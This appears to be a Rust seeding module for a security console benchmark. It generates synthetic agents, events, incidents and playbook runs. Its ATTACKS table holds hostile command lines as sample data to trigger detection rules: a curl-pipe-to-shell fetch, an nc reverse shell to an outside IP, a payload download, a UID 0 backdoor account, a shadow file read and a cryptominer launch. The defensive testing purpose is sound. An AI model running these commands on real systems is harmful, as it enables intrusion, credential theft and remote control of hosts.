//! The console benchmark's data: agents, a day of process and file events spread across them,
//! alerts grouped into incidents (with status changes, notes, playbook runs and a few pending
//! approvals), written through the controller's store and its traits, as the controller
//! writes them: events and their alerts in the batched ingest (`Events::ingest`), one
//! transaction per 20,000 events.

use anyhow::{Context, bail};
use cordon_controller::policy::grouping::Grouping;
use cordon_controller::store::{
    Agents, Alerts, ApprovalRow, ApprovalStatus, Enrolment, Events, Finding, IncidentStatus,
    PlaybookStore, RunRow, RunStatus, StepRow, StepStatus, Store, StoredEvent, TimelineRow, Tokens,
};
use cordon_detect::RuleIdentity;
use cordon_proto::{Event, FileEvent, HostFacts, ProcessEvent, event, file_event, process_event};
use prost::Message;
use std::collections::HashMap;
use std::time::Instant;

/// How much to seed.
#[derive(Debug, Clone, Copy)]
pub struct Size {
    pub agents: usize,
    pub events: usize,
    pub alerts: usize,
    /// One per agent at most (each incident is one agent's).
    pub incidents: usize,
}

/// What was seeded: the incidents' ids, and when the day of events starts (Unix ms).
pub struct Seeded {
    pub incidents: Vec<String>,
    pub day_start_ms: i64,
}

const DAY_MS: i64 = 86_400_000;
/// Events per ingest call (the store's group size).
const BATCH: usize = 20_000;

/// A small deterministic generator (xorshift64*): the same data on every run.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        Self(seed | 1)
    }

    pub fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    pub fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }
}

pub fn agent_id(i: usize) -> String {
    format!(
        "{:032x}",
        (i as u128 + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15_f39c_c060_5ced_c835)
    )
}

/// Everyday commands (exe, argv with `{n}` replaced by a number), as a fleet runs them.
const COMMANDS: &[(&str, &str)] = &[
    ("/usr/bin/ls", "ls -la /var/log/app{n}"),
    (
        "/usr/bin/python3",
        "python3 /opt/app/worker.py --job {n} --queue default",
    ),
    ("/usr/bin/git", "git fetch origin refs/heads/release-{n}"),
    ("/usr/sbin/sshd", "sshd: deploy@pts/{n}"),
    (
        "/usr/bin/curl",
        "curl -s https://api.internal.example/health?probe={n}",
    ),
    ("/usr/bin/systemctl", "systemctl status nginx.service"),
    (
        "/bin/bash",
        "bash -c /usr/local/bin/backup.sh /srv/data/{n}",
    ),
    (
        "/usr/bin/tar",
        "tar czf /backup/db-{n}.tgz /var/lib/postgresql/15/main",
    ),
    (
        "/usr/bin/grep",
        "grep -r ERROR /var/log/app/service-{n}.log",
    ),
    ("/usr/bin/docker", "docker ps --filter label=team={n}"),
    ("/usr/bin/apt-get", "apt-get -q update"),
    ("/usr/bin/find", "find /tmp -mtime +{n} -delete"),
    ("/usr/sbin/logrotate", "logrotate /etc/logrotate.conf"),
    ("/usr/bin/node", "node /srv/web/server.js --port 80{n}"),
    ("/usr/bin/psql", "psql -U app -c vacuum analyze orders_{n}"),
    (
        "/usr/bin/rsync",
        "rsync -a /srv/data/ backup-{n}.internal.example:/srv/data/",
    ),
];

/// What an attacker runs: the events that raise the alerts, one per rule.
const ATTACKS: &[(&str, &str, &str)] = &[
    (
        "/bin/bash",
        "bash -c curl -s http://198.51.100.23/p.sh | sh",
        "Download piped to a shell",
    ),
    (
        "/usr/bin/nc",
        "nc -e /bin/sh 198.51.100.23 4444",
        "Reverse shell with netcat",
    ),
    (
        "/tmp/.x/xmrig",
        "xmrig -o pool.example.net:3333 --donate-level 1",
        "Cryptominer started",
    ),
    (
        "/usr/bin/base64",
        "base64 -d /tmp/.cache/blob",
        "Base64 decode of a hidden file",
    ),
    (
        "/usr/bin/chmod",
        "chmod +x /tmp/.x/kworker",
        "Executable bit set in /tmp",
    ),
    (
        "/usr/bin/crontab",
        "crontab /tmp/.x/cron",
        "Crontab replaced from /tmp",
    ),
    (
        "/usr/sbin/useradd",
        "useradd -o -u 0 backdoor",
        "UID 0 account created",
    ),
    ("/usr/bin/cat", "cat /etc/shadow", "Shadow file read"),
    (
        "/usr/bin/python3",
        "python3 -c import pty;pty.spawn('/bin/sh')",
        "PTY spawned from Python",
    ),
    (
        "/usr/bin/wget",
        "wget -q http://198.51.100.23/kworker -O /tmp/.x/kworker",
        "Download to /tmp",
    ),
];

const LEVELS: &[&str] = &["medium", "high", "critical", "low", "high"];

fn process(rng: &mut Rng, exe: &str, argv: &str, exit: bool) -> event::Body {
    let n = rng.below(1000).to_string();
    let pid = 1000 + rng.below(60_000) as u32;
    event::Body::Process(ProcessEvent {
        kind: if exit {
            process_event::Kind::Exit
        } else {
            process_event::Kind::Exec
        }
        .into(),
        pid,
        ppid: 1 + rng.below(pid as usize) as u32,
        exe: exe.into(),
        argv: argv
            .replace("{n}", &n)
            .split(' ')
            .map(str::to_string)
            .collect(),
        cwd: "/".into(),
        uid: if rng.below(3) == 0 { 0 } else { 1000 },
        user: if rng.below(3) == 0 { "root" } else { "deploy" }.into(),
        parent_exe: "/usr/lib/systemd/systemd".into(),
        exit_code: if rng.below(20) == 0 { 1 } else { 0 },
        lifetime_ms: rng.below(5000) as u64,
        ..Default::default()
    })
}

fn file(rng: &mut Rng) -> event::Body {
    const DIRS: &[&str] = &[
        "/var/log/app",
        "/etc/nginx/conf.d",
        "/home/deploy/.cache",
        "/srv/data/uploads",
    ];
    let kind = [
        file_event::Kind::Create,
        file_event::Kind::Modify,
        file_event::Kind::Delete,
    ][rng.below(3)];
    event::Body::File(FileEvent {
        kind: kind.into(),
        path: format!(
            "{}/{:05}.dat",
            DIRS[rng.below(DIRS.len())],
            rng.below(100_000)
        ),
        size: rng.below(1 << 20) as u64,
        sha256: format!(
            "{:016x}{:016x}{:016x}{:016x}",
            rng.next(),
            rng.next(),
            rng.next(),
            rng.next()
        ),
        ..Default::default()
    })
}

/// An everyday event: 45% exec, 25% exit, 30% file.
fn everyday(rng: &mut Rng) -> event::Body {
    let (exe, argv) = COMMANDS[rng.below(COMMANDS.len())];
    match rng.below(100) {
        0..45 => process(rng, exe, argv, false),
        45..70 => process(rng, exe, argv, true),
        _ => file(rng),
    }
}

fn stored(agent: usize, seq: u64, time_ms: i64, body: event::Body) -> StoredEvent {
    let e = Event {
        seq,
        time_ms,
        body: Some(body),
    };
    let (kind, summary) = cordon_controller::core::describe(&e);
    StoredEvent {
        agent_id: agent_id(agent),
        seq,
        time_ms,
        kind: kind.into(),
        summary,
        body: e.encode_to_vec(),
        received_at_ms: time_ms + 150,
    }
}

fn finding(rule: usize) -> Finding {
    let (_, _, title) = ATTACKS[rule % ATTACKS.len()];
    Finding {
        rule: RuleIdentity {
            rule_id: format!("bench-{rule:03}"),
            title: title.into(),
            level: LEVELS[rule % LEVELS.len()].into(),
            tags: vec!["attack.execution".into()],
            author: "cordon-bench".into(),
        },
        source: "sigma".into(),
        detail: format!("matched rule bench-{rule:03}"),
    }
}

/// Seeds `store` with `size`; prints how long it took.
pub async fn seed(store: &Store, size: Size) -> anyhow::Result<Seeded> {
    if size.incidents > size.agents || size.alerts > size.events {
        bail!("need incidents <= agents and alerts <= events");
    }
    let started = Instant::now();
    let now = cordon_proto::time::now_ms();
    agents(store, size.agents, now).await?;
    let agents_took = started.elapsed();
    let day_start_ms = now - DAY_MS;
    let raised = events(store, size, day_start_ms).await?;
    let events_took = started.elapsed() - agents_took;
    let incidents = triage(store, &raised, now).await?;
    println!(
        "console: seeded {} agents in {:.1} s, {} events and {} alerts in {} incidents in {:.1} s ({:.0} events/s), triage and runs in {:.1} s; {:.1} s in all",
        size.agents,
        agents_took.as_secs_f64(),
        size.events,
        raised.len(),
        incidents.len(),
        events_took.as_secs_f64(),
        size.events as f64 / events_took.as_secs_f64(),
        (started.elapsed() - agents_took - events_took).as_secs_f64(),
        started.elapsed().as_secs_f64()
    );
    Ok(Seeded {
        incidents,
        day_start_ms,
    })
}

/// Enrols `n` agents with one token; every 50th is to be isolated.
async fn agents(store: &Store, n: usize, now: i64) -> anyhow::Result<()> {
    let token = "bench-token".to_string();
    store
        .create_token(
            token.clone(),
            now,
            now + DAY_MS,
            n as u32,
            HashMap::new(),
            "bench".into(),
        )
        .await?;
    for i in 0..n {
        let labels = HashMap::from([
            ("env".to_string(), ["prod", "staging"][i % 2].to_string()),
            (
                "role".to_string(),
                ["web", "db", "worker"][i % 3].to_string(),
            ),
        ]);
        let e = Enrolment {
            token_hash: token.clone(),
            agent_id: agent_id(i),
            host: HostFacts {
                hostname: format!("{}-{i:04}", ["web", "db", "worker"][i % 3]),
                os_name: "Debian GNU/Linux".into(),
                os_version: "13".into(),
                kernel_version: "6.12.0-amd64".into(),
                arch: "x86_64".into(),
                agent_version: "0.1.0".into(),
            },
            labels,
            cert_serial: format!("{:032x}", i + 1),
            cert_expires_at_ms: now + 30 * DAY_MS,
            now_ms: now - DAY_MS,
        };
        if let Err(refused) = store.enroll(e).await? {
            bail!("enrolling agent {i}: {refused}");
        }
        if i % 50 == 0 {
            store.set_isolation_desired(agent_id(i), true).await?;
        }
    }
    Ok(())
}

/// Which events raise which rule: alert k is on incident (agent) k % incidents, with rule
/// k / incidents, at a slot of that agent's events near a start drawn per agent.
fn attack_plan(size: Size, rng: &mut Rng) -> HashMap<usize, usize> {
    let per_agent = size.events / size.agents;
    let starts: Vec<usize> = (0..size.incidents).map(|_| rng.below(per_agent)).collect();
    let mut plan = HashMap::new();
    for k in 0..size.alerts {
        let (agent, rule) = (k % size.incidents, k / size.incidents);
        let slot = (starts[agent] + rule * 3) % per_agent;
        plan.insert(slot * size.agents + agent, rule);
    }
    plan
}

/// Ingests the events in time order, in batches, with the alerts of the plan; returns the
/// alerts raised as (alert id, incident id, agent).
async fn events(
    store: &Store,
    size: Size,
    start: i64,
) -> anyhow::Result<Vec<(String, String, String)>> {
    let mut rng = Rng::new(0xc0d0);
    let plan = attack_plan(size, &mut rng);
    // One incident per agent: its alerts all join it.
    let grouping = Grouping {
        alert_window_ms: 600_000,
        incident_window_ms: 2 * DAY_MS,
    };
    let step = DAY_MS as f64 / size.events as f64;
    let mut raised = Vec::new();
    let mut i = 0;
    while i < size.events {
        let end = (i + BATCH).min(size.events);
        let (mut batch, mut findings) = (Vec::new(), Vec::new());
        for j in i..end {
            let (agent, seq) = (j % size.agents, (j / size.agents) as u64 + 1);
            let time = start + (j as f64 * step) as i64;
            let (body, found) = match plan.get(&j) {
                Some(&rule) => {
                    let (exe, argv, _) = ATTACKS[rule % ATTACKS.len()];
                    (process(&mut rng, exe, argv, false), vec![finding(rule)])
                }
                None => (everyday(&mut rng), Vec::new()),
            };
            batch.push(stored(agent, seq, time, body));
            findings.push(found);
        }
        let (_, alerts) = store.ingest(batch, findings, Some(grouping)).await?;
        raised.extend(
            alerts
                .into_iter()
                .filter(|a| a.new)
                .map(|a| (a.alert_id, a.incident_id, a.agent_id)),
        );
        i = end;
    }
    Ok(raised)
}

/// Moves incidents on as people would: 40% stay open, the rest contained, resolved or false
/// positives; every 5th gets a note, every 10th a playbook run, every 50th a pending approval.
async fn triage(
    store: &Store,
    raised: &[(String, String, String)],
    now: i64,
) -> anyhow::Result<Vec<String>> {
    let mut first: Vec<(String, String, String)> = Vec::new();
    for r in raised {
        if !first.iter().any(|f| f.1 == r.1) {
            first.push(r.clone());
        }
    }
    for (j, (alert, incident, agent)) in first.iter().enumerate() {
        let status = match j % 10 {
            0..4 => None,
            4..6 => Some(IncidentStatus::Contained),
            6..9 => Some(IncidentStatus::Resolved),
            _ => Some(IncidentStatus::FalsePositive),
        };
        if j % 5 == 0 {
            let note = TimelineRow {
                at_ms: now - 60_000,
                kind: "note".into(),
                actor: "alice".into(),
                text: "Looked at the process tree; the parent is the web server.".into(),
                reference: String::new(),
            };
            store.add_timeline(incident.clone(), note).await?;
        }
        if j % 10 == 0 {
            run(store, j, alert, incident, agent, now).await?;
        }
        if let Some(s) = status {
            store
                .set_incident_status(incident.clone(), s, "alice".into(), now - 30_000)
                .await?
                .context("an incident vanished")?;
        }
    }
    Ok(first.into_iter().map(|f| f.1).collect())
}

/// A playbook run on an incident: notify, then isolate; every 5th run waits for approval.
async fn run(
    store: &Store,
    j: usize,
    alert: &str,
    incident: &str,
    agent: &str,
    now: i64,
) -> anyhow::Result<()> {
    let waiting = j % 50 == 0;
    let id = format!("run-{j:05}");
    store
        .create_run(RunRow {
            id: id.clone(),
            playbook: "contain-on-critical".into(),
            source: String::new(),
            alert_id: alert.into(),
            incident_id: incident.into(),
            agent_id: agent.into(),
            dry_run: false,
            status: if waiting {
                RunStatus::WaitingApproval
            } else {
                RunStatus::Succeeded
            },
            step: if waiting { 1 } else { 2 },
            started_at_ms: now - 120_000,
            updated_at_ms: now - 100_000,
        })
        .await?;
    for (idx, (name, action)) in [("tell the team", "notify"), ("isolate the host", "isolate")]
        .iter()
        .enumerate()
    {
        if waiting && idx == 1 {
            break;
        }
        let step = StepRow {
            idx,
            name: name.to_string(),
            action: action.to_string(),
            status: StepStatus::Succeeded,
            detail: "done".into(),
            command_id: String::new(),
            started_at_ms: now - 110_000,
            finished_at_ms: now - 105_000,
        };
        store.put_step(id.clone(), step).await?;
    }
    if waiting {
        let mut a = ApprovalRow::pending(
            "playbook:contain-on-critical".into(),
            agent.into(),
            "isolate".into(),
            "critical alert".into(),
            now - 100_000,
            std::time::Duration::from_secs(86_400),
        );
        (a.run_id, a.idx, a.incident_id, a.status) =
            (id, 1, incident.into(), ApprovalStatus::Pending);
        store.request_approval(a).await?;
    }
    Ok(())
}
